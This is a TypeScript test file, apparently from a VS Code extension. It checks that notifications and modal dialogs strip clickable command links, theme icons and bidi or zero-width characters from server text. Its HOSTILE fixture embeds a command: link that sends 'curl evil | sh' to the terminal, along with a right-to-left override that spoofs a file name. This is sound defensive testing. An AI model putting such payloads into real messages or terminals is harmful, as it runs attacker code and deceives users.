// Every notification's text goes through inert(): the message, a modal's detail lines and the
// buttons, whatever the caller put in them. The editor's show*Message functions are stubbed and
// record what reached them; the checks are the ones a notification would need (no link VS Code
// would make clickable, no theme icon, no bidi, control or zero-width character).
import * as stub from '../views/vscodeStub';
import * as assert from 'node:assert/strict';
import { askModal, notify } from '../../../src/common/notify';

interface Shown {
  kind: 'error' | 'warn' | 'info';
  message: string;
  options: { modal?: boolean; detail?: string };
  items: string[];
}

const shown: Shown[] = [];
/** Which button the next notification answers with (by index), or undefined for Escape. */
let answer: number | undefined;
const recorder =
  (kind: Shown['kind']) =>
  async (message: string, options: Shown['options'], ...items: string[]) => {
    shown.push({ kind, message, options, items });
    return answer === undefined ? undefined : items[answer];
  };
const patch = {
  showErrorMessage: recorder('error'),
  showWarningMessage: recorder('warn'),
  showInformationMessage: recorder('info'),
};

/** VS Code's notification link syntax (src/vs/base/common/linkedText.ts), as in inertText.test.ts. */
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;
const ICON = /\$\(/;
const HIDDEN = /[\u0000-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028\u2029\u202a-\u202e\u2060-\u2069\ufeff]/u;

/** Server text that would run a command, draw an icon, reverse text or forge a line. */
const HOSTILE =
  'Quota exceeded. [Fix it now](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%20%7C%20sh%5Cn%22%7D) $(check) verified \u202Etxt.exe\u202C\nSecond line\u200b';

function assertInert(text: string | undefined, where: string): void {
  assert.ok(text !== undefined, `${where}: nothing shown`);
  assert.equal(NOTIFICATION_LINK.exec(text), null, `${where} holds a clickable link: ${text}`);
  assert.ok(!ICON.test(text), `${where} holds a theme icon: ${text}`);
  assert.ok(!HIDDEN.test(text), `${where} holds a hidden or bidi character: ${JSON.stringify(text)}`);
  assert.match(text, /Fix it now/, `${where} keeps the words`);
}

describe('common/notify: every notification is inert', () => {
  let had: Record<string, unknown> = {};
  before(() => {
    had = Object.fromEntries(
      Object.keys(patch)
        .filter((k) => k in stub.window)
        .map((k) => [k, (stub.window as Record<string, unknown>)[k]]),
    );
    Object.assign(stub.window, patch);
  });
  after(() => {
    for (const key of Object.keys(patch)) {
      if (!(key in had)) {
        delete (stub.window as Record<string, unknown>)[key];
      }
    }
    Object.assign(stub.window, had);
  });
  beforeEach(() => {
    shown.length = 0;
    answer = undefined;
  });

  for (const kind of ['error', 'warn', 'info'] as const) {
    it(`notify.${kind}: the message and every button`, async () => {
      answer = 1;
      const choice = await notify[kind](`The service said: ${HOSTILE}`, 'Retry', `Open ${HOSTILE}`);
      assert.equal(shown.length, 1);
      assert.equal(shown[0].kind, kind);
      assert.notEqual(shown[0].options.modal, true);
      assertInert(shown[0].message, 'message');
      assertInert(shown[0].items[1], 'button');
      assert.equal(shown[0].items[0], 'Retry', 'an ordinary button stays as it is');
      assert.equal(choice, `Open ${HOSTILE}`, 'the caller gets back the item it passed');
    });
  }

  for (const severity of ['warn', 'info'] as const) {
    it(`askModal(${severity}): the message, each detail line and every button`, async () => {
      answer = 0;
      const choice = await askModal(
        severity,
        `Delete ${HOSTILE}?`,
        [`name: ${HOSTILE}`, 'plain line', `id: ${HOSTILE}`],
        `Delete ${HOSTILE}`,
        'Keep',
      );
      assert.equal(shown.length, 1);
      const [modal] = shown;
      assert.equal(modal.kind, severity);
      assert.equal(modal.options.modal, true);
      assertInert(modal.message, 'modal message');
      const lines = (modal.options.detail ?? '').split('\n');
      assert.equal(lines.length, 3, `each detail line stays one line: ${JSON.stringify(modal.options.detail)}`);
      assertInert(lines[0], 'detail line 1');
      assert.equal(lines[1], 'plain line');
      assertInert(lines[2], 'detail line 3');
      assertInert(modal.items[0], 'modal button');
      assert.equal(choice, `Delete ${HOSTILE}`, 'the caller gets back the item it passed');
    });
  }

  it('answers undefined when dismissed, and bounds a huge message and detail', async () => {
    const huge = `[x](command:evil) ${'y'.repeat(1_000_000)}`;
    assert.equal(await notify.error(huge, 'OK'), undefined);
    assert.equal(
      await askModal('warn', huge, [
        huge,
        huge,
        huge,
        huge,
        huge,
        huge,
        huge,
        huge,
        huge,
        huge,
        huge,
        huge,
        huge,
        huge,
        huge,
      ]),
      undefined,
    );
    assert.ok(shown[0].message.length <= 1000, `message ${shown[0].message.length} chars`);
    assert.ok(shown[1].message.length <= 1000);
    assert.ok((shown[1].options.detail ?? '').length <= 4000, `detail ${(shown[1].options.detail ?? '').length} chars`);
    for (const s of shown) {
      assert.equal(NOTIFICATION_LINK.exec(s.message), null);
    }
  });
});
